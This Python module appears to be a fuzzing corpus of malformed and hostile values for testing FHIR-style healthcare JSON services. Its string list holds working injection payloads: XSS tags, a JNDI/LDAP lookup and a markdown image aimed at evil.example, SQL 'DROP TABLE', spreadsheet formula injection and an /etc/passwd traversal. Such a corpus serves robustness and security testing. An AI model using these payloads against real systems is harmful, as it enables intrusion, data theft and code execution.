"""Values that have broken other services: strings, numbers, dates, ids and whole JSON values.

All words that could be found again in an answer hold `CANARY`.
"""

from __future__ import annotations

import copy
import random
from typing import Any

CANARY = "Kanarienvogel"
MARKUP = f"<b id={CANARY}>"
"""Never stands in a page as it is: it would be an element of ours."""


class Raw(str):
    """Text that goes into the JSON as it is, without quotation marks."""


STRINGS = (
    "",
    " ",
    "\x00",
    f"{CANARY}\x00{CANARY}",
    "\u202e" + CANARY + "\u202c",
    "\u2066\u2067" + CANARY,
    "e\u0301\u0301\u0301" * 40,
    "\ufdfa" * 50,
    "\ufeff" + CANARY,
    "\u2028\u2029",
    "\U0001f9c2" * 20,
    "\U000e0001\U000e007f",
    "ﬁ①Ⅷ" + CANARY,
    "\uff1cscript\uff1e",
    f"<script>{CANARY}</script>",
    f"</textarea>{MARKUP}",
    f"\"'>{MARKUP}",
    f"<img src=x onerror={CANARY}()>",
    f"![{CANARY}](https://evil.example/{CANARY}.png)",
    f"[{CANARY}](javascript:{CANARY})",
    f"\n\n# {CANARY}\n\n|a|b|\n|-|-|\n",
    f"`{CANARY}`` ``` ~~~\n",
    "{potassium.value}{0}{0.__class__}{{}}%s%n%(x)s${jndi:ldap://evil.example}",
    f"'; DROP TABLE shown; -- {CANARY}",
    "=cmd|'/C calc'!A0",
    "../../../../etc/passwd\x00.json",
    "Patient/../../Patient/1",
    "https://evil.example/fhir/Patient/1",
    "urn:uuid:00000000-0000-0000-0000-000000000000",
    "#self",
    "#",
    "/",
    "Patient/",
    "Patient/" + "9" * 3000,
    "A" * 70_000,
    "٣٫٢",
    "3,2",
    "1e400",
    "0x10",
    "NaN",
    "-Infinity",
    ">" * 500,
    "<=>=<>",
    "(" * 5000,
    "mg " * 2000,
    "potassium chloride 20 meq " * 100,
    "1/" * 500 + "1",
    "not " * 500 + "hemolyzed",
    "i\u0307" * 200,
    "ẞß" * 200,
)
DATES = (
    "0000-00-00",
    "0000-01-01",
    "0001-01-01",
    "0001-01-01T00:00:00+14:00",
    "1582-10-10",
    "1900-02-29",
    "2000-02-29",
    "2023-02-29",
    "2026-13-01",
    "2026-00",
    "2026-06-31T25:61:61Z",
    "2016-12-31T23:59:60Z",
    "2026-03-10T24:00:00Z",
    "2026-03-10T12:00:00+99:99",
    "2026-03-10T12:00:00-23:59",
    "2026-03-10T12:00:00." + "9" * 400 + "Z",
    "2026-03-10T12:00:00",
    "2026-03-10 12:00",
    "9999-12-31",
    "9999-12-31T23:59:59.999999-14:00",
    "10000-01-01",
    "-0001-01-01",
    "99999999999999999999-01-01",
    "2026-W10-1",
    "2026",
    "٢٠٢٦-٠٣-١٠",
    "2026-03-10T12:00:00Z\x00",
)
NUMBERS = tuple(
    Raw(text)
    for text in (
        "0", "-0", "-0.0", "0.0000000000000000000000001", "1e-400", "1e-308", "1E308", "1e309", "-1e309", "1e999999999",
        "1e-999999999", "9" * 400, "-" + "9" * 400, "0." + "9" * 400, "9" * 5000, "18446744073709551616",
        "9223372036854775808", "-9223372036854775809", "1.7976931348623157e308", "3.2e+00000000000001", "00", "01",
        "+1",
        ".5", "5.", "1e", "0x1F", "NaN", "Infinity", "-Infinity", "1_000", "١",
    )
)  # fmt: skip
SHAPES: tuple[Any, ...] = (
    None, True, False, 0, -1, 3.2, "", [], {}, [None], [[]], [{}], {"": None}, {"resourceType": None},
    {"resourceType": "Patient"}, {"resourceType": "Bundle", "entry": [None, {}, {"resource": None}]},
    {"reference": "#"}, {"value": 1e308, "unit": "mmol/L"}, {"coding": [{"system": None, "code": []}]},
    [[[[[[[[]]]]]]]], {"extension": [{"url": "x", "valueString": "y"}]},
)  # fmt: skip
"""What a value of any other type is swapped for."""
RESOURCE_TYPES = (
    "Patient", "Observation", "Condition", "MedicationRequest", "MedicationStatement", "Medication", "ServiceRequest",
    "AllergyIntolerance", "Procedure", "Bundle", "OperationOutcome", "QuestionnaireResponse", "Encounter", "Parameters",
    "Basic", "patient", "", "Resource", "DomainResource", CANARY,
)  # fmt: skip
LONE_SURROGATES = (
    Raw('"\\ud800"'), Raw('"\\udfff\\ud800"'), Raw('"x\\ud83d y"'), Raw('"\\ud800\\u0000"'), Raw('"\\uD83D\\uDE00"'),
    Raw('"\\u0000"'), Raw('"\\u12"'), Raw('"\\x41"'), Raw('"tab\there"'),
)  # fmt: skip


def shape(chance: random.Random) -> Any:
    return copy.deepcopy(chance.choice(SHAPES))


def value(chance: random.Random) -> Any:
    """Any one of them, as a copy that may be changed."""
    return copy.deepcopy(
        chance.choice(chance.choice((STRINGS, DATES, NUMBERS, SHAPES, LONE_SURROGATES, RESOURCE_TYPES)))
    )
